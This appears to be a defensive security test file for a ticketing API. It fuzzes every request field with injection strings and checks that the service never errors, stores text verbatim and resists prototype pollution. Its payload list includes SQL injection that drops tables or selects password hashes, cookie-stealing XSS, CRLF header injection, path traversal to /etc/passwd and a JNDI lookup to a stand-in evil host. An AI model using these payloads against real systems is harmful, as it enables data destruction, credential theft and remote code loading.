/**
 * Injection. Every operation of the served OpenAPI document that takes a JSON body, a query string or path
 * parameters gets, in each of its string fields (one at a time, the rest of the request valid), each string of the
 * list below, sent by a caller the operation is for: the answer is never a 5xx. Where the value is stored and
 * answered (an account's name, a venue's name and city, an event's name), it comes back verbatim, or the request is
 * refused with 400. `__proto__` and `constructor.prototype` in bodies are refused and pollute nothing.
 *
 * Stored values are data to PostgreSQL (parameterised queries everywhere: api/**), escaped by whoever renders them
 * (the buyer page builds DOM text nodes, api/web), and never become headers.
 */
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import type { LightMyRequestResponse } from 'fastify';
import { pino } from 'pino';
import type { Role } from '../../api/auth/roles.js';
import type { Harness } from '../../api/testing/harness.js';
import { eventBodyOf, removeCatalogOf, venueBodyOf } from '../../api/catalog/testing.js';
import { definition } from '../../processors/seat-allocation/fixtures.js';
import {
  exampleOf,
  fillPath,
  oneOfEachRole,
  operationsOf,
  securityHarness,
  type JsonSchema,
  type Operation,
  type SignedIn,
} from './testing.js';

/** What an attacker types into text fields. */
export const injectionStrings: readonly string[] = [
  // SQL
  "' OR '1'='1' --",
  "'; DROP TABLE users; --",
  '1 UNION SELECT email_enc, password_hash FROM users --',
  "\\'; SELECT pg_sleep(0); --",
  // NoSQL operators (as text; as objects they are refused by the schemas, see below)
  '{"$gt": ""}',
  '$where: 1 == 1',
  // JSON and prototype pollution
  '__proto__',
  'constructor.prototype.polluted',
  '{"__proto__": {"polluted": true}}',
  // header injection
  'a\r\nSet-Cookie: session=attacker',
  '%0d%0aLocation:%20https://evil.example',
  // HTML and script
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(document.cookie)>',
  'javascript:alert(1)',
  // path traversal
  '../../../../etc/passwd',
  '..%2f..%2f..%2fetc%2fpasswd',
  '..\\..\\windows\\win.ini',
  // format strings and template engines
  '%s%s%s%s%n%x',
  '${jndi:ldap://evil.example/a} ${7*7} {{7*7}} #{7*7}',
  // unicode: long, right-to-left override, zero-width, combining marks, astral, a lone surrogate
  'ي'.repeat(4000),
  '😀'.repeat(2500),
  '\u202Egnp.exe\u200B\uFEFF' + 'e\u0301'.repeat(40),
  'a\uD800b',
  // NUL
  'a\u0000b',
];

/** Values of another type where a string is expected. */
const nonStrings: readonly unknown[] = [{ $gt: '' }, { $ne: null }, ['a'], 0, true, null];

/** A string leaf of a request: where it sits in the body, query or path. */
interface Slot {
  part: 'body' | 'query' | 'params';
  path: (string | number)[];
}

/** Every string field of a body: those of the example, and optional string properties of objects. */
function stringSlots(schema: JsonSchema, value: unknown, path: (string | number)[] = []): (string | number)[][] {
  if (typeof value === 'string') return [path];
  if (Array.isArray(value)) return value.flatMap((v, i) => stringSlots(schema.items ?? {}, v, [...path, i]));
  if (value === null || typeof value !== 'object') return [];
  const obj = value as Record<string, unknown>;
  const out: (string | number)[][] = [];
  for (const [k, s] of Object.entries(schema.properties ?? {})) {
    if (k in obj) out.push(...stringSlots(s, obj[k], [...path, k]));
    else if (s.type === 'string' || (Array.isArray(s.type) && s.type.includes('string'))) out.push([...path, k]);
  }
  return out;
}

const setAt = (root: unknown, path: (string | number)[], v: unknown): unknown => {
  const copy = structuredClone(root) as Record<string | number, unknown>;
  let at = copy;
  for (const k of path.slice(0, -1)) at = at[k] as Record<string | number, unknown>;
  at[path[path.length - 1]!] = v;
  return copy;
};
const getAt = (root: unknown, path: (string | number)[]): unknown =>
  path.reduce<unknown>((o, k) => (o && typeof o === 'object' ? (o as Record<string, unknown>)[k] : undefined), root);

describe('security: injection', () => {
  let h: Harness;
  let who: Record<Role, SignedIn>;
  let ops: Operation[];
  let venueId: string;
  let eventId: string;
  const hall = definition();

  before(async () => {
    h = await securityHarness({
      logger: pino({ level: 'warn' }), // three thousand requests: their access log lines would be most of the time
      env: {
        API_REGISTER_PER_IP_PER_HOUR: '100000',
        API_LOGIN_PER_IP_PER_MIN: '100000',
        API_TOKEN_PER_IP_PER_MIN: '100000',
        API_IP_LOCKOUT_FAILURES: '100000',
      },
    });
    who = await oneOfEachRole(h);
    ops = await operationsOf(h);
    const v = await h.inject({
      method: 'POST',
      url: '/v1/organizer/venues',
      token: who.organizer.accessToken,
      payload: venueBodyOf(hall),
    });
    assert.equal(v.statusCode, 201, v.body);
    venueId = (v.json() as { id: string }).id;
    const e = await h.inject({
      method: 'POST',
      url: '/v1/organizer/events',
      token: who.organizer.accessToken,
      payload: eventBodyOf(hall, venueId),
    });
    assert.equal(e.statusCode, 201, e.body);
    eventId = (e.json() as { id: string }).id;
  });
  after(async () => {
    await removeCatalogOf(h.pool, [who.organizer.user.id]);
    await h.close();
  });

  /** Who calls an operation: its first audience in this order (organizers own what they make). */
  const callerOf = (op: Operation): SignedIn | null => {
    if (!op.secured) return null;
    const t = op.tags[0] ?? '';
    if (['organizer', 'analytics', 'check-in'].includes(t)) return who.organizer;
    if (['admin', 'partners'].includes(t)) return who.admin;
    return who.customer;
  };

  /** A valid request of the operation, its objects real where a stored value is read back. */
  const baseOf = (op: Operation) => {
    const params: Record<string, string> = Object.fromEntries(
      op.params.map((p) => [p.name, String(exampleOf(p.schema))]),
    );
    if (op.path.startsWith('/v1/organizer/venues/')) params.venueId = venueId;
    if (op.path.startsWith('/v1/organizer/events/')) params.eventId = eventId;
    let body: unknown = op.body ? exampleOf(op.body) : undefined;
    const key = `${op.method} ${op.path}`;
    if (key === 'POST /v1/organizer/venues' || key === 'PUT /v1/organizer/venues/{venueId}') body = venueBodyOf(hall);
    if (key === 'POST /v1/organizer/events' || key === 'PUT /v1/organizer/events/{eventId}')
      body = eventBodyOf(hall, venueId);
    if (key === 'POST /v1/admin/partners') body = { ...(body as object), partnerId: 'catalog' }; // reserved: nothing reaches Kafka
    if (key === 'POST /v1/auth/register') body = { ...(body as object), email: `inj-${randomUUID()}@example.com` };
    const query: Record<string, string> = Object.fromEntries(
      op.query.filter((q) => q.required).map((q) => [q.name, String(exampleOf(q.schema))]),
    );
    return { params, body, query };
  };

  const send = async (op: Operation, base: ReturnType<typeof baseOf>): Promise<LightMyRequestResponse> => {
    const caller = callerOf(op);
    const qs = new URLSearchParams(base.query).toString();
    const res = await h.inject({
      method: op.method as 'GET',
      url: fillPath(op.path, base.params) + (qs ? `?${qs}` : ''),
      headers: { 'idempotency-key': randomUUID() },
      ...(caller ? { token: caller.accessToken } : {}),
      ...(base.body !== undefined ? { payload: JSON.stringify(base.body) } : {}),
      ...(base.body !== undefined
        ? { headers: { 'content-type': 'application/json', 'idempotency-key': randomUUID() } }
        : {}),
    });
    if (op.path === '/v1/auth/register' && res.statusCode === 201) h.track((res.json() as { id: string }).id);
    return res;
  };

  it('every string field of every body, query and path: never a 5xx; a stored value comes back verbatim or is a 400', async () => {
    const tally = { requests: 0, stored: 0, refused: 0, slots: 0 };
    const slow: string[] = [];
    for (const op of ops) {
      if (op.path.startsWith('/docs') || op.path === '/v1/ws') continue;
      const base = baseOf(op);
      const slots: Slot[] = [
        ...(op.body ? stringSlots(op.body, exampleOf(op.body)).map((path) => ({ part: 'body' as const, path })) : []),
        ...op.query.map((q) => ({ part: 'query' as const, path: [q.name] })),
        ...op.params.map((p) => ({ part: 'params' as const, path: [p.name] })),
      ];
      for (const slot of slots) {
        tally.slots++;
        for (const value of [...injectionStrings, ...(slot.part === 'body' ? nonStrings : [])]) {
          const req = structuredClone(base);
          if (slot.part === 'body') req.body = setAt(req.body, slot.path, value);
          else (req[slot.part] as Record<string, string>)[slot.path[0] as string] = String(value);
          const started = Date.now();
          const res = await send(op, req);
          tally.requests++;
          if (Date.now() - started > 2000) slow.push(`${op.method} ${op.path} ${slot.path.join('.')}`);
          const what = `${op.method} ${op.path} ${slot.part}.${slot.path.join('.')} = ${JSON.stringify(value).slice(0, 60)}`;
          assert.ok(res.statusCode < 500, `${what} -> ${res.statusCode} ${res.body.slice(0, 200)}`);
          assert.doesNotMatch(JSON.stringify(res.headers), /attacker|evil\.example/, `${what}: reached a header`);
          // Answered back (a stored or echoed field): verbatim.
          if (res.statusCode < 300 && slot.part === 'body' && typeof value === 'string' && res.body.startsWith('{')) {
            const echoed = getAt(res.json(), slot.path);
            if (echoed !== undefined) {
              assert.equal(echoed, value, `${what}: answered altered`);
              tally.stored++;
            }
          }
          if (res.statusCode >= 400) tally.refused++;
        }
      }
    }
    console.log(`injection: ${JSON.stringify(tally)}${slow.length ? `; slower than 2 s: ${slow.join(', ')}` : ''}`);
    assert.ok(tally.stored > 0, 'no stored value was ever answered back');
  });

  it('stored text reads back verbatim: an account name, a venue name and city, an event name', async () => {
    const storable = injectionStrings.filter((s) => !s.includes('\u0000'));
    for (const text of storable) {
      const name = text.slice(0, 100);
      const reg = await h.inject({
        method: 'POST',
        url: '/v1/auth/register',
        payload: { email: `inj-${randomUUID()}@example.com`, password: `pw-${randomUUID()}`, name, locale: 'en' },
      });
      if (reg.statusCode === 201) {
        const { id } = reg.json() as { id: string };
        h.track(id);
        const { rows } = await h.pool.query<{ n: number }>('SELECT count(*)::int AS n FROM users WHERE id = $1', [id]);
        assert.equal(rows[0]!.n, 1);
        const u = await h.register({ name });
        const token = ((await h.login(u)).json() as { accessToken: string }).accessToken;
        assert.equal(((await h.inject({ url: '/v1/me', token })).json() as { name: string }).name, name);
      } else assert.equal(reg.statusCode, 400, `${JSON.stringify(name).slice(0, 40)}: ${reg.body}`);

      const v = await h.inject({
        method: 'PUT',
        url: `/v1/organizer/venues/${venueId}`,
        token: who.organizer.accessToken,
        payload: venueBodyOf(hall, { name: text.slice(0, 200), city: text.slice(0, 100) }),
      });
      if (v.statusCode === 200) {
        const read = (
          await h.inject({ url: `/v1/organizer/venues/${venueId}`, token: who.organizer.accessToken })
        ).json() as { name: string; city: string };
        assert.deepEqual([read.name, read.city], [text.slice(0, 200), text.slice(0, 100)]);
      } else assert.equal(v.statusCode, 400, `venue ${JSON.stringify(text).slice(0, 40)}: ${v.body}`);

      const e = await h.inject({
        method: 'PUT',
        url: `/v1/organizer/events/${eventId}`,
        token: who.organizer.accessToken,
        payload: eventBodyOf(hall, venueId, { name: text.slice(0, 200) }),
      });
      if (e.statusCode === 200) {
        const read = (
          await h.inject({ url: `/v1/organizer/events/${eventId}`, token: who.organizer.accessToken })
        ).json() as { name: string };
        assert.equal(read.name, text.slice(0, 200));
      } else assert.equal(e.statusCode, 400, `event ${JSON.stringify(text).slice(0, 40)}: ${e.body}`);
    }
    // The tables are still there, and nobody else's row changed name.
    const { rows } = await h.pool.query<{ ok: boolean }>(`SELECT to_regclass('public.users') IS NOT NULL AS ok`);
    assert.equal(rows[0]!.ok, true);
  });

  it('__proto__ and constructor.prototype in any body are refused and pollute nothing', async () => {
    const bodies = ops.filter((o) => o.body && !o.path.startsWith('/docs'));
    assert.ok(bodies.length > 10);
    for (const op of bodies) {
      const base = baseOf(op);
      const json = JSON.stringify(base.body ?? {});
      for (const extra of [
        '"__proto__":{"polluted":"yes","role":"admin"}',
        '"constructor":{"prototype":{"polluted":"yes"}}',
      ]) {
        const payload = json === '{}' ? `{${extra}}` : json.replace(/^\{/, `{${extra},`);
        const caller = callerOf(op);
        const res = await h.inject({
          method: op.method as 'POST',
          url: fillPath(op.path, base.params),
          payload,
          headers: { 'content-type': 'application/json', 'idempotency-key': randomUUID() },
          ...(caller ? { token: caller.accessToken } : {}),
        });
        assert.equal(res.statusCode, 400, `${op.method} ${op.path} ${extra}: ${res.statusCode} ${res.body}`);
        const polluted = {} as Record<string, unknown>;
        assert.equal(polluted.polluted, undefined, `${op.path}: Object.prototype polluted`);
        assert.equal(polluted.role, undefined, `${op.path}: Object.prototype polluted`);
      }
    }
  });
});
